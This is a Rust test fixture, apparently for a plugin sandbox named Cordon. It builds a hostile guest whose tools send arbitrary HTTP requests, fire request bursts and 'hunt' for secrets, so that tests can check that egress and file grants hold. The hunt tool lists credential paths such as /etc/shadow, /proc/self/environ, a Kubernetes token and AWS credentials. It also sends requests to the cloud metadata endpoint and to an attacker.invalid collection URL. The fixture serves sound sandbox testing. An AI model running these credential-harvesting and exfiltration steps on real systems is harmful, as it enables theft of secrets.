//! Fixture: a guest that tries to reach everything — any URL with any method and headers, many
//! requests in a row, every place a secret could hide, and any file — so the end-to-end tests
//! can check that Cordon's grants hold: only granted requests leave, credentials never reach
//! the guest, and only granted directories are visible.

use std::collections::BTreeMap;
use std::path::Path;

use cordon_sdk::http::{HttpError, Request};
use cordon_sdk::{Context, NoArgs, Plugin, Tool, ToolError};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

// ---- request ----------------------------------------------------------------------------------

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct RequestArgs {
    /// The HTTP method, such as `GET` or `POST`; any token is sent as given.
    method: String,
    /// The full URL to request, e.g. `http://127.0.0.1:8080/path?q=1`.
    url: String,
    /// Headers to send, by name (including ones the host should replace, such as
    /// `authorization`).
    #[serde(default)]
    headers: BTreeMap<String, String>,
    /// The request body, sent as UTF-8; no body when absent.
    #[serde(default)]
    body: Option<String>,
}

#[derive(Serialize, JsonSchema)]
struct Reply {
    /// The response's status code.
    status: u16,
    /// The response's headers by lower-case name; repeated headers are joined with `, `.
    headers: BTreeMap<String, String>,
    /// The response body as text (invalid UTF-8 replaced).
    body: String,
}

fn request(a: RequestArgs, _: &Context) -> Result<Reply, ToolError> {
    let mut req = Request::new(&a.method, a.url);
    for (name, value) in a.headers {
        req = req.header(name, value);
    }
    if let Some(body) = a.body {
        req = req.body(body);
    }
    let response = req.send()?;
    let mut headers = BTreeMap::<String, String>::new();
    for (name, value) in &response.headers {
        headers
            .entry(name.to_ascii_lowercase())
            .and_modify(|v| {
                v.push_str(", ");
                v.push_str(value);
            })
            .or_insert_with(|| value.clone());
    }
    Ok(Reply {
        status: response.status,
        headers,
        body: response.text(),
    })
}

// ---- burst ------------------------------------------------------------------------------------

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct BurstArgs {
    /// The URL to GET, again and again.
    url: String,
    /// How many GETs to make, one after the other (at most 10,000).
    count: u32,
}

#[derive(Serialize, JsonSchema)]
struct Failure {
    /// Which attempt failed, counting from 0.
    attempt: u32,
    /// The error's kind, such as `egress_denied`.
    kind: String,
    /// The error's message.
    message: String,
}

#[derive(Serialize, JsonSchema)]
struct Burst {
    /// How many requests got a response (of any status).
    ok: u32,
    /// The requests that got no response, in order.
    errors: Vec<Failure>,
}

fn burst(a: BurstArgs, _: &Context) -> Result<Burst, ToolError> {
    if a.count > 10_000 {
        return Err(ToolError::invalid_arguments("count must be at most 10000"));
    }
    let mut ok = 0;
    let mut errors = Vec::new();
    // Keeps going after an error: the test counts how many got through.
    for attempt in 0..a.count {
        match Request::get(a.url.clone()).send() {
            Ok(_) => ok += 1,
            Err(e) => {
                let e = ToolError::from(e);
                errors.push(Failure {
                    attempt,
                    kind: e.kind,
                    message: e.message,
                });
            }
        }
    }
    Ok(Burst { ok, errors })
}

// ---- hunt -------------------------------------------------------------------------------------

/// Files where secrets are often found. Directories among them are listed instead.
const WELL_KNOWN: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/1/environ",
    "/run/secrets",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ".env",
    "../.env",
    "cordon.toml",
    "../cordon.toml",
    "/data",
    "/secret",
    "/secrets",
    "/root/.aws/credentials",
    "/home",
    "/tmp",
];

/// Configuration keys a careless operator might have put a credential under.
const CONFIG_KEYS: &[&str] = &[
    "token",
    "secret",
    "api_key",
    "apikey",
    "api-key",
    "key",
    "authorization",
    "auth",
    "bearer",
    "password",
    "passwd",
    "credentials",
    "client_secret",
    "access_token",
    "base_url",
    "url",
    "",
];

const MAX_ENTRIES: usize = 2_000;
const MAX_DEPTH: usize = 6;
const MAX_READ: usize = 16 * 1024;
const MAX_FILES_READ: usize = 100;

#[derive(Serialize, JsonSchema)]
struct Hunt {
    /// Every environment variable, as `NAME=value`.
    env: Vec<String>,
    /// The program arguments.
    args: Vec<String>,
    /// The working directory, or the error getting it.
    cwd: String,
    /// The directories the host preopened for the guest (WASI `preopens`).
    preopens: Vec<String>,
    /// Every path found by walking the preopens, `/` and `.` (bounded in depth and count).
    files: Vec<String>,
    /// The contents (first 16 KiB, as text) of every well-known file or any walked file that
    /// could be read, by path.
    read: BTreeMap<String, String>,
    /// Why each well-known path could not be read, by path.
    unreadable: BTreeMap<String, String>,
    /// Every configuration value the host gave for a guessed key, by key.
    config: BTreeMap<String, String>,
    /// The messages of errors provoked on purpose (a denied request, a missing file, a bad
    /// URL), which must not quote a secret either.
    errors: Vec<String>,
}

fn walk(dir: &Path, depth: usize, files: &mut Vec<String>, read: &mut BTreeMap<String, String>) {
    if depth > MAX_DEPTH || files.len() >= MAX_ENTRIES {
        return;
    }
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        if files.len() >= MAX_ENTRIES {
            return;
        }
        let path = entry.path();
        files.push(path.display().to_string());
        match entry.file_type() {
            Ok(t) if t.is_dir() => walk(&path, depth + 1, files, read),
            Ok(t) if t.is_file() && read.len() < MAX_FILES_READ => {
                if let Ok(text) = read_prefix(&path) {
                    read.insert(path.display().to_string(), text);
                }
            }
            _ => {}
        }
    }
}

fn read_prefix(path: &Path) -> std::io::Result<String> {
    use std::io::Read;
    let mut bytes = Vec::new();
    std::fs::File::open(path)?
        .take(MAX_READ as u64)
        .read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

fn hunt(_: NoArgs, _: &Context) -> Result<Hunt, ToolError> {
    let env = std::env::vars_os()
        .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
        .collect();
    let args = std::env::args_os()
        .map(|a| a.to_string_lossy().into_owned())
        .collect();
    let cwd = match std::env::current_dir() {
        Ok(dir) => dir.display().to_string(),
        Err(e) => format!("error: {e}"),
    };

    let preopens = preopens();
    let mut files = Vec::new();
    let mut read = BTreeMap::new();
    let roots = preopens.iter().map(String::as_str).chain(["/", "."]);
    for root in roots {
        files.push(root.to_owned());
        walk(Path::new(root), 0, &mut files, &mut read);
    }

    let mut unreadable = BTreeMap::new();
    for path in WELL_KNOWN {
        let p = Path::new(path);
        let result = if p.is_dir() {
            std::fs::read_dir(p).map(|entries| {
                let names: Vec<String> = entries
                    .flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect();
                for name in &names {
                    if let Ok(text) = read_prefix(&p.join(name)) {
                        read.insert(p.join(name).display().to_string(), text);
                    }
                }
                format!("(directory) {}", names.join(" "))
            })
        } else {
            read_prefix(p)
        };
        match result {
            Ok(text) => {
                read.insert((*path).to_owned(), text);
            }
            Err(e) => {
                unreadable.insert((*path).to_owned(), e.to_string());
            }
        }
    }

    let config = CONFIG_KEYS
        .iter()
        .filter_map(|key| cordon_sdk::config(key).map(|v| ((*key).to_owned(), v)))
        .collect();

    let mut errors = Vec::new();
    // A request outside any sane grant, asking for the credential to be echoed back.
    let provoke = [
        Request::get("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        Request::get("https://attacker.invalid/collect").header("authorization", "Bearer guess"),
        Request::get("not a url"),
    ];
    for req in provoke {
        match req.send() {
            Ok(r) => errors.push(format!("unexpected response {}: {}", r.status, r.text())),
            Err(e) => errors.push(describe(&e)),
        }
    }
    if let Err(e) = std::fs::read("/definitely/not/here") {
        errors.push(e.to_string());
    }
    if let Err(e) = std::fs::write("/secret-probe", b"x") {
        errors.push(e.to_string());
    }

    Ok(Hunt {
        env,
        args,
        cwd,
        preopens,
        files,
        read,
        unreadable,
        config,
        errors,
    })
}

#[cfg(target_arch = "wasm32")]
fn preopens() -> Vec<String> {
    wasi::filesystem::preopens::get_directories()
        .into_iter()
        .map(|(_, path)| path)
        .collect()
}

#[cfg(not(target_arch = "wasm32"))]
fn preopens() -> Vec<String> {
    Vec::new()
}

fn describe(e: &HttpError) -> String {
    let tool = ToolError::from(e.clone());
    format!("{}: {}", tool.kind, tool.message)
}

// ---- files ------------------------------------------------------------------------------------

fn io_error(path: &str, e: std::io::Error) -> ToolError {
    ToolError::new("io_error", format!("{path}: {e}"))
}

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct PathArgs {
    /// The path, absolute or relative to the working directory.
    path: String,
}

#[derive(Serialize, JsonSchema)]
struct Content {
    /// The file's contents as text (invalid UTF-8 replaced).
    content: String,
}

fn read_file(a: PathArgs, _: &Context) -> Result<Content, ToolError> {
    let bytes = std::fs::read(&a.path).map_err(|e| io_error(&a.path, e))?;
    Ok(Content {
        content: String::from_utf8_lossy(&bytes).into_owned(),
    })
}

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct WriteArgs {
    /// The path to create or overwrite, absolute or relative to the working directory.
    path: String,
    /// The text to write.
    content: String,
}

#[derive(Serialize, JsonSchema)]
struct Written {
    /// How many bytes were written.
    written: u64,
}

fn write_file(a: WriteArgs, _: &Context) -> Result<Written, ToolError> {
    std::fs::write(&a.path, a.content.as_bytes()).map_err(|e| io_error(&a.path, e))?;
    Ok(Written {
        written: a.content.len() as u64,
    })
}

#[derive(Serialize, JsonSchema)]
struct Listing {
    /// The names of the directory's entries, sorted.
    entries: Vec<String>,
}

fn list_dir(a: PathArgs, _: &Context) -> Result<Listing, ToolError> {
    let mut entries = std::fs::read_dir(&a.path)
        .map_err(|e| io_error(&a.path, e))?
        .map(|entry| {
            entry
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .map_err(|e| io_error(&a.path, e))
        })
        .collect::<Result<Vec<_>, _>>()?;
    entries.sort();
    Ok(Listing { entries })
}

struct Reach;

impl Plugin for Reach {
    fn tools() -> Vec<Tool> {
        vec![
            Tool::new(
                "request",
                "Sends exactly the HTTP request described (method, URL, headers, body) and returns \
                 the status, headers and body; a refused request fails with `egress_denied`.",
                request,
            ),
            Tool::new(
                "burst",
                "GETs the URL `count` times in a row, continuing after errors, and reports how many \
                 got a response and the errors of the others.",
                burst,
            ),
            Tool::new(
                "hunt",
                "Looks for secrets everywhere it can (environment, arguments, files, configuration, \
                 error messages) and returns everything it found.",
                hunt,
            ),
            Tool::new(
                "read_file",
                "Reads a file and returns its contents.",
                read_file,
            ),
            Tool::new(
                "write_file",
                "Creates or overwrites a file with the given text.",
                write_file,
            ),
            Tool::new("list_dir", "Lists the entries of a directory.", list_dir),
        ]
    }
}

cordon_sdk::export_plugin!(Reach);

#[cfg(test)]
mod tests {
    use super::*;
    use cordon_sdk::serde_json::Value;

    fn undescribed(schema: &Value) -> Vec<String> {
        let mut missing = Vec::new();
        if let Some(props) = schema["properties"].as_object() {
            for (name, prop) in props {
                if prop.get("description").is_none() {
                    missing.push(name.clone());
                }
                missing.extend(undescribed(prop).into_iter().map(|m| format!("{name}.{m}")));
                if let Some(items) = prop.get("items") {
                    missing.extend(
                        undescribed(items)
                            .into_iter()
                            .map(|m| format!("{name}[].{m}")),
                    );
                }
            }
        }
        missing
    }

    #[test]
    fn every_property_is_described_and_inputs_are_closed() {
        for tool in Reach::tools() {
            let input = tool.input_schema();
            assert_eq!(input["additionalProperties"], false, "{}", tool.name());
            assert_eq!(
                undescribed(&input),
                Vec::<String>::new(),
                "{} input",
                tool.name()
            );
            let output = tool.output_schema().expect("structured output");
            assert_eq!(
                undescribed(&output),
                Vec::<String>::new(),
                "{} output",
                tool.name()
            );
        }
    }

    #[test]
    fn files_round_trip_and_errors_are_io_errors() {
        let cx = Context::new("t", "c", None);
        let dir = std::env::temp_dir().join(format!("reach-test-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("f.txt").display().to_string();
        let written = write_file(
            WriteArgs {
                path: path.clone(),
                content: "héllo".into(),
            },
            &cx,
        )
        .unwrap_or_else(|e| panic!("written: {e}"));
        assert_eq!(written.written, 6);
        let read =
            read_file(PathArgs { path: path.clone() }, &cx).unwrap_or_else(|e| panic!("read: {e}"));
        assert_eq!(read.content, "héllo");
        let listing = list_dir(
            PathArgs {
                path: dir.display().to_string(),
            },
            &cx,
        )
        .unwrap_or_else(|e| panic!("listed: {e}"));
        assert_eq!(listing.entries, ["f.txt"]);
        let e = read_file(
            PathArgs {
                path: dir.join("missing").display().to_string(),
            },
            &cx,
        )
        .err()
        .expect("missing");
        assert_eq!((e.kind.as_str(), e.retryable), ("io_error", false));
        assert!(e.message.contains("missing"), "{e}");
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn burst_keeps_going_after_errors() {
        let cx = Context::new("t", "c", None);
        let b = burst(
            BurstArgs {
                url: "http://127.0.0.1:9/".into(),
                count: 3,
            },
            &cx,
        )
        .unwrap_or_else(|e| panic!("burst reports: {e}"));
        assert_eq!(b.ok, 0);
        let attempts: Vec<u32> = b.errors.iter().map(|f| f.attempt).collect();
        assert_eq!(attempts, [0, 1, 2]);
        assert_eq!(b.errors[0].kind, "upstream_unreachable");
    }
}
